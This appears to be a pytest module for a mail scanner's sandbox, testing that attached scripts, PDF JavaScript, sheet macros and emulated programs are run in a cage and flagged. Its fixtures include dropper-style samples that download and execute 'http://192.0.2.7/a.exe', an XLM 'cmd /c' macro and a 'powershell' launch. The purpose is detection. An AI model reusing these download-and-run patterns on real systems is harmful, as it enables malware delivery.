"""The pool of the sandbox in its cage: code of a mail is run there and nowhere else, and a busy engine is ended."""

from __future__ import annotations

import shutil
from importlib.util import find_spec

import pytest

from mailcore.message import Envelope, Message
from mailcore.sandbox_settings import Sandbox
from mailcore.settings import PoolSettings, Settings, default_pools
from mailcore.verdict import PoolReport, PoolStatus
from mailio.configuration import default_configs
from tasks.pools import build_scanner
from tasks.scanner import Scanner, decoded_parts
from tests import files, mail
from tests import files_office as office
from tests import files_pdf as pdf
from tests import files_sandbox as sandbox
from tests.files_emulated import program
from tests.files_old_archives import lzh

# What no bound of the engine stops: its own loop over a proxy that claims to be long.
BUSY = b"Array.from({length: 4e9}, function () { return 1 }); var x = []; x.length = 4e9; JSON.stringify(x)"


@pytest.fixture(scope="module")
def scanner(tmp_path_factory: pytest.TempPathFactory) -> Scanner:
    pools = {**default_pools(), "sandbox": PoolSettings(seconds=20.0)}
    state = str(tmp_path_factory.mktemp("state"))
    settings = Settings(state_dir=state, pools=pools, sandbox=Sandbox())
    return build_scanner(settings, default_configs(), only=("sandbox",))


def report_of(
    scanner: Scanner, filename: str, data: bytes, *, seconds: float = 20.0, may_wait: bool = True
) -> PoolReport:
    parsed = scanner.parse(mail.mail(attachments=[(filename, data)]), message_id="m", truncated=False)
    work = scanner.pools["sandbox"].work(parsed.message)
    assert work is not None
    view = scanner.view(Envelope(), parsed.message)
    return scanner.run("sandbox", view, decoded_parts(parsed, work), seconds=seconds, may_wait=may_wait)


def test_a_script_in_an_archive_is_run_and_its_address_is_judged(scanner: Scanner) -> None:
    script = sandbox.DROPPER_JS.replace(b'["a", "example"].join(".")', b'["192", "0", "2", "7"].join(".")')
    report = report_of(scanner, "invoice.zip", files.zip_file({"invoice.js": script}))
    found = {finding.id: finding for finding in report.findings}
    assert report.status is PoolStatus.OK, report.reason
    assert "traced_script_writes_and_runs_files" in found
    assert "http://192.0.2.7/a.exe" in found["traced_script_downloads_and_runs"].detail
    # Nothing of that address stands in the mail.
    assert any(finding.id.startswith(("link_", "url_")) for finding in report.findings), sorted(found)


def test_a_script_under_a_password_that_is_always_tried(scanner: Scanner) -> None:
    archive = files.encrypted_zip({"invoice.js": sandbox.DROPPER_JS}, b"infected")
    found = {finding.id for finding in report_of(scanner, "invoice.zip", archive).findings}
    assert "traced_script_downloads_and_runs" in found


@pytest.mark.skipif(shutil.which("unar") is None, reason="unar is not installed")
def test_a_script_in_an_archive_that_another_program_opens(scanner: Scanner) -> None:
    report = report_of(scanner, "invoice.lzh", lzh([(b"invoice.js", sandbox.DROPPER_JS)]))
    assert "traced_script_downloads_and_runs" in {finding.id for finding in report.findings}


def test_scripts_of_documents_and_macros_of_sheets(scanner: Scanner) -> None:
    script = "app.launchURL('http://' + [192, 0, 2, 7].join('.') + '/login')"
    report = report_of(scanner, "a.pdf", pdf.document(f"/OpenAction {pdf.script(script)}"))
    found = {finding.id for finding in report.findings}
    assert "traced_pdf_leads_to_hidden_address" in found
    assert any(name.startswith(("link_", "url_")) for name in found), sorted(found)
    report = report_of(scanner, "a.xlsm", office.xlsm('EXEC("cmd /c "&CHAR(97))'))
    assert "traced_script_starts_programs" in {finding.id for finding in report.findings}


@pytest.mark.parametrize(("script", "status"), [("", PoolStatus.OK), ("while (1);", PoolStatus.TIMED_OUT)])
def test_in_place_no_script_is_run(scanner: Scanner, script: str, status: PoolStatus) -> None:
    data = pdf.document(f"/OpenAction {pdf.script(script)}" if script else "")
    report = report_of(scanner, "a.pdf", data, may_wait=False)
    assert report.status is status, report.reason
    assert not report.reason or "not run in place" in report.reason


def test_a_busy_engine_costs_its_own_message_only(scanner: Scanner) -> None:
    busy = report_of(scanner, "a.js", BUSY, seconds=1.0)
    assert busy.status in (PoolStatus.TIMED_OUT, PoolStatus.OK)
    assert report_of(scanner, "b.js", sandbox.DROPPER_JS).status is PoolStatus.OK


@pytest.mark.parametrize("name", ["a.docx", "a.txt", "a.png", "a.csv", "a.ics"])
def test_most_mail_is_no_work(scanner: Scanner, name: str) -> None:
    parsed = scanner.parse(mail.mail(attachments=[(name, b"x")]), message_id="m", truncated=False)
    assert scanner.pools["sandbox"].work(parsed.message) is None


def test_without_a_cage_no_code_is_run(tmp_path_factory: pytest.TempPathFactory) -> None:
    settings = Settings(state_dir=str(tmp_path_factory.mktemp("state")), sandbox=Sandbox(enabled=False))
    without = build_scanner(settings, default_configs(), only=("sandbox",))
    assert "sandbox" not in without.pools
    message = mail_with_script(without)
    assert without.plan(Envelope(), message).plan.skipped["sandbox"] == "switched off"


def mail_with_script(scanner: Scanner) -> Message:
    return scanner.parse(mail.mail(attachments=[("a.js", b"1")]), message_id="m", truncated=False).message


@pytest.mark.skipif(find_spec("speakeasy") is None, reason="the `emulation` extra is not installed")
@pytest.mark.parametrize("bits", [32, 64])
def test_a_program_is_emulated_in_the_cage_and_its_address_is_judged(scanner: Scanner, bits: int) -> None:
    downloader = program(
        ("kernel32.VirtualAlloc", 0, 4_096, 0x3000, 0x40),
        ("urlmon.URLDownloadToFileA", 0, "http://192.0.2.7/a.exe", "C:\\a.exe", 0, 0),
        ("kernel32.WinExec", "C:\\a.exe", 0),
        bits=bits,
    )
    report = report_of(scanner, "invoice.zip", files.zip_file({"invoice.exe": downloader}), seconds=60.0)
    found = {finding.id: finding for finding in report.findings}
    assert report.status is PoolStatus.OK, report.reason
    assert "fetches GET http://192.0.2.7/a.exe" in found["emulated_program_downloads_and_runs"].detail
    assert any(finding.id.startswith(("link_", "url_")) for finding in report.findings), sorted(found)


@pytest.mark.skipif(find_spec("speakeasy") is None, reason="the `emulation` extra is not installed")
def test_a_program_that_takes_all_it_can_get_leaves_the_cage_to_the_next(scanner: Scanner) -> None:
    hog = program(
        ("kernel32.WinExec", "powershell -c a", 0), ("kernel32.VirtualAlloc", 0, 0x6000000, 0x3000, 4), b"\xeb\xe1"
    )
    report = report_of(scanner, "hog.exe", hog, seconds=60.0)
    assert "emulated_program_starts_interpreters" in {finding.id for finding in report.findings}, report.reason
    assert report_of(scanner, "a.js", sandbox.DROPPER_JS).findings
